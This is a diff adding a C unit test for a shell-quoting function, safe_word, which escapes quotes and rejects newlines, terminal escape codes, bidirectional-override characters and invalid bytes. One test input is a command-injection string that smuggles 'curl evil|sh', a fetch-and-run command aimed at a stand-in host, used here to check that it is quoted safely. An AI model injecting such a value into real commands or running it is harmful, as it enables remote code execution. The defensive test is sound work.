@@ -71,4 +71,26 @@ static void what_is_json(void **state)
     assert_false(safe_is_json(STR("\xff")));
 }
 
-RUN(TEST(texts), TEST(json_on_one_line), TEST(what_is_json))
+static void words_of_a_shell(void **state)
+{
+    struct buf b = buf_init(1000);
+
+    (void)state;
+    assert_true(safe_word(STR("plant/+/t"), &b));
+    buf_u8(&b, ' ');
+    assert_true(safe_word(STR("x';curl evil|sh;'"), &b));
+    buf_u8(&b, ' ');
+    assert_true(safe_word(STR("'"), &b));
+    buf_u8(&b, ' ');
+    assert_true(safe_word(STR(""), &b));
+    assert_str(buf_str(&b), "'plant/+/t' 'x'\\'';curl evil|sh;'\\''' ''\\''' ''");
+    buf_clear(&b);
+    assert_false(safe_word(STR("a\nb"), &b));
+    assert_false(safe_word(STR("a\x1b[2J"), &b));
+    assert_false(safe_word(STR("a\xe2\x80\xae"), &b));
+    assert_false(safe_word(STR("a\xff"), &b));
+    assert_int_equal(b.n, 0);
+    buf_fini(&b);
+}
+
+RUN(TEST(texts), TEST(words_of_a_shell), TEST(json_on_one_line), TEST(what_is_json))
